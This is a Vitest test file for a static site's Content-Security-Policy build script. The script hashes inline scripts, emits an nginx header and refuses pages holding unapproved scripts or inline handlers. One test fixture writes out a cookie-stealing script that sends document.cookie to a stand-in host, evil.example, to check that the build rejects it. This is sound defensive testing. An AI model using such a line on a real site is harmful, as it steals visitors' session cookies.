// The CSP of the deployed site (scripts/csp.mjs): every inline script of the built pages is
// allowed by its hash and nothing else runs; what no hash can allow stops the build.
import { createHash } from 'node:crypto';
import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { approveInlineScripts, buildPolicy, inlineHashes, loadAllowList, nginxInclude, policyForDist } from '../../scripts/csp.mjs';

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
const directive = (policy: string, name: string) => policy.split('; ').find((d) => d.split(' ')[0] === name);

describe('inlineHashes', () => {
  it('hashes the exact text of inline scripts (modules included) and styles, not external or data scripts', () => {
    const theme = "\n\twindow.StarlightThemeProvider = (() => { /* é */ })();\n";
    const html = `<head><script>${theme}</script><script type="module">import"x"</script>
      <script type="module" src="/_astro/page.js"></script><script type="application/ld+json">{"a":1}</script>
      <style>astro-island{display:contents}</style></head>`;
    const { scripts, styles, problems } = inlineHashes(html);
    expect([...scripts].sort()).toEqual([hashOf(theme), hashOf('import"x"')].sort());
    expect([...styles]).toEqual([hashOf('astro-island{display:contents}')]);
    expect(problems).toEqual([]);
  });
  it('finds inline handlers and javascript: URLs, but not code shown on the page', () => {
    const { problems } = inlineHashes(
      '<img src="a.png" onerror="x()"><a href="javascript:void 0">x</a><pre>&lt;button onclick="f()"&gt;</pre><script>el.onclick = f</script>',
    );
    expect(problems).toHaveLength(2);
    expect(problems[0]).toContain('onerror=');
    expect(problems[1]).toContain('javascript:');
  });
});

describe('buildPolicy', () => {
  const policy = buildPolicy({ scripts: ["'sha256-b'", "'sha256-a'", "'sha256-a'"], styles: ["'sha256-s'"] });
  it('allows scripts from the site and by hash only, plus WebAssembly for Pagefind', () => {
    expect(directive(policy, 'script-src')).toBe("script-src 'self' 'wasm-unsafe-eval' 'sha256-a' 'sha256-b'");
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
  });
  it('allows no other origin and no framing', () => {
    expect(directive(policy, 'default-src')).toBe("default-src 'self'");
    expect(directive(policy, 'frame-ancestors')).toBe("frame-ancestors 'none'");
    expect(directive(policy, 'object-src')).toBe("object-src 'none'");
    expect(policy).not.toMatch(/https?:|\*/);
  });
  it('style elements by hash, style attributes inline', () => {
    expect(directive(policy, 'style-src-elem')).toBe("style-src-elem 'self' 'sha256-s'");
    expect(directive(policy, 'style-src-attr')).toBe("style-src-attr 'unsafe-inline'");
  });
});

describe('policyForDist and the nginx include', () => {
  it('reads every page of dist/ and writes one add_header', () => {
    const dist = mkdtempSync(join(tmpdir(), 'csp-'));
    mkdirSync(join(dist, 'docker', 'volumes'), { recursive: true });
    writeFileSync(join(dist, 'index.html'), '<script>a()</script>');
    writeFileSync(join(dist, 'docker', 'volumes', 'index.html'), '<script>b()</script><script>a()</script>');
    const { policy, pages, scripts } = policyForDist(dist, { allowList: { [hashOf('a()')]: 'a', [hashOf('b()')]: 'b' } });
    expect(pages).toBe(2);
    expect(scripts).toBe(2);
    expect(policy).toContain(hashOf('a()'));
    expect(policy).toContain(hashOf('b()'));
    const include = nginxInclude(policy, pages);
    expect(include).toMatch(/^add_header Content-Security-Policy "default-src 'self'; [^"]+" always;$/m);
  });
  it('refuses a build with an inline handler', () => {
    const dist = mkdtempSync(join(tmpdir(), 'csp-'));
    writeFileSync(join(dist, 'index.html'), '<button onclick="go()">Go</button>');
    expect(() => policyForDist(dist, { allowList: null })).toThrow(/onclick=/);
  });
  it('refuses an inline script that the committed allow-list does not hold, naming its page and start', () => {
    const dist = mkdtempSync(join(tmpdir(), 'csp-'));
    mkdirSync(join(dist, 'docker'), { recursive: true });
    writeFileSync(join(dist, 'index.html'), '<script>a()</script>');
    writeFileSync(join(dist, 'docker', 'index.html'), '<script>fetch("https://evil.example/?" + document.cookie)</script>');
    expect(() => policyForDist(dist, { allowList: { [hashOf('a()')]: 'a' } })).toThrow(/liste autorisée[\s\S]*docker\/index\.html[\s\S]*evil\.example/);
    // Approving it writes it to the list, with its first characters; then the build passes.
    const list = join(dist, 'allow.json');
    writeFileSync(list, JSON.stringify({ scripts: { [hashOf('a()')]: 'a' } }));
    expect(approveInlineScripts(dist, list)).toBe(1);
    expect(loadAllowList(list)[hashOf('fetch("https://evil.example/?" + document.cookie)')]).toContain('evil.example');
    expect(() => policyForDist(dist, { allowList: loadAllowList(list) })).not.toThrow();
  });
  it('the committed allow-list holds only sha256 hashes, each described', () => {
    const list = loadAllowList();
    expect(Object.keys(list).length).toBeGreaterThan(5);
    for (const [hash, what] of Object.entries(list)) {
      expect(hash).toMatch(/^'sha256-[A-Za-z0-9+/]{43}='$/);
      expect(what.length).toBeGreaterThan(10);
    }
  });
});
